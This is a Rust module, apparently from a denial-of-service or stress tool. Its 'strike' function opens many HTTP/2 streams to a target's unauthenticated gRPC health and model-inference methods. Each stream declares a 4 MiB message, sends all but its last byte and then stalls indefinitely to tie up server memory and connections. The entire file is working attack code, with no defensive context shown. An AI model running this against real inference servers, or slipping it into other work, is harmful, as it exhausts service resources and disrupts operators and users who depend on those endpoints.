//! Messages over gRPC of which the last byte does not come, to methods that want no key.

use std::io;

use axum::body::{Body, Bytes};
use axum::http::Request;
use fastrand::Rng;
use http_body_util::channel::Channel;
use hyper::client::conn::http2::handshake;
use hyper_util::rt::{TokioExecutor, TokioIo};

use crate::aim::{Aim, hold};

const LARGEST: usize = 4 << 20;
const PART: usize = 64 << 10;
const MOST: usize = 16;
const METHODS: [&str; 3] = [
    "/grpc.health.v1.Health/Check",
    "/inference.GRPCInferenceService/ServerMetadata",
    "/inference.GRPCInferenceService/ModelInfer",
];

pub(crate) async fn strike(aim: &Aim, random: &mut Rng) -> io::Result<()> {
    let stream = aim.connect(aim.grpc, random).await?;
    let (mut sender, connection) =
        handshake(TokioExecutor::new(), TokioIo::new(stream)).await.map_err(io::Error::other)?;
    let driver = tokio::spawn(connection);
    let method = METHODS[random.usize(..METHODS.len())];
    let mut held = Vec::new();
    for _ in 0..random.usize(1..=MOST) {
        let (mut message, body) = Channel::<Bytes, io::Error>::new(1);
        let request = Request::post(format!("http://{}{method}", aim.grpc))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(Body::new(body))
            .map_err(io::Error::other)?;
        let answer = sender.send_request(request);
        held.push((
            tokio::spawn(answer),
            tokio::spawn(async move {
                let head = [&[0][..], &u32::try_from(LARGEST).unwrap_or(u32::MAX).to_be_bytes()].concat();
                message.send_data(head.into()).await.ok()?;
                for _ in 0..LARGEST / PART - 1 {
                    message.send_data(Bytes::from(vec![10; PART])).await.ok()?;
                }
                message.send_data(Bytes::from(vec![10; PART - 1])).await.ok()?;
                // Nothing more comes, and the end neither.
                std::future::pending::<Option<()>>().await
            }),
        ));
    }
    aim.bytes.fetch_add((held.len() * LARGEST) as u64, std::sync::atomic::Ordering::Relaxed);
    hold((), random).await;
    for (answer, message) in held {
        answer.abort();
        message.abort();
    }
    driver.abort();
    Ok(())
}
